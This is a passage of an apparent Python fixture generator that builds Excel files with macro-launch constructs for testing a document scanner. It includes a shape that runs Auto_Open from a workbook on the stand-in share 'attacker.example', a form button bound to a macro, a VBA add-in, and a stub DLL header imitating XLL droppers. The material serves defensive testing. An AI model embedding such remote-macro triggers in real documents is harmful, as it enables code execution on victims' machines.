    return _pptx_part_action("ppt/slideMasters/slideMaster1.xml", "ppt/slideMasters/_rels/slideMaster1.xml.rels")


def _xlsx_with_drawing(shape: str) -> base.Package:
    package = _xlsx(sheet_extra=f'<drawing xmlns:r="{RT[:-1]}" r:id="rIdDr"/>')
    drawing = (
        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:oneCellAnchor><xdr:from><xdr:col>3</xdr:col>'
        "<xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
        f'<xdr:ext cx="900000" cy="300000"/>{shape}<xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>'
    )
    _add_part(package, "xl/drawings/drawing1.xml", drawing, "application/vnd.openxmlformats-officedocument.drawing+xml",
              "xl/worksheets/_rels/sheet1.xml.rels", "rIdDr", RT + "drawing")
    return package


@sample("xlsx_shape_assigned_macro", ".xlsx", "macros",
        "§20.5.2.29 xdr:sp/@macro: a button that opens a macro workbook on a share and runs its macro")
def xlsx_shape_assigned_macro(work: Path) -> bytes:
    shape = ('<xdr:sp macro="\'\\\\attacker.example\\share\\[tools.xlsm]\'!Auto_Open"><xdr:nvSpPr><xdr:cNvPr id="2" name="Button 1"/><xdr:cNvSpPr/></xdr:nvSpPr>'
             '<xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:sp>')
    return _xlsx_with_drawing(shape).bytes()


@sample("xlsx_form_control_macro", ".xlsx", "macros", "[MS-XLSX] ctrlProps formControlPr/@fmlaMacro on a form button")
def xlsx_form_control_macro(work: Path) -> bytes:
    package = _xlsx(sheet_extra=f'<controls><control xmlns:r="{RT[:-1]}" shapeId="1025" r:id="rIdCtl" name="Button 1"/></controls>')
    control = ('<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" '
               'fmlaMacro="[0]!Auto_Open" lockText="1"/>')
    _add_part(package, "xl/ctrlProps/ctrlProp1.xml", control, "application/vnd.ms-excel.controlproperties+xml",
              "xl/worksheets/_rels/sheet1.xml.rels", "rIdCtl", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/ctrlProp")
    return package.bytes()


@sample("xlam_addin_vba", ".xlam", "macros", "Excel add-in (.xlam): a workbook whose only purpose is its VBA")
def xlam_addin_vba(work: Path) -> bytes:
    package = base.Package(base.xlwings_file("quickstart.xlsm"))
    package.main_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml")
    return package.bytes()


@sample("xll_addin_dll", ".xll", "macros", "XLL add-in: a DLL Excel loads and runs (2021-22 XLL droppers)", Expect.QUARANTINED)
def xll_addin_dll(work: Path) -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
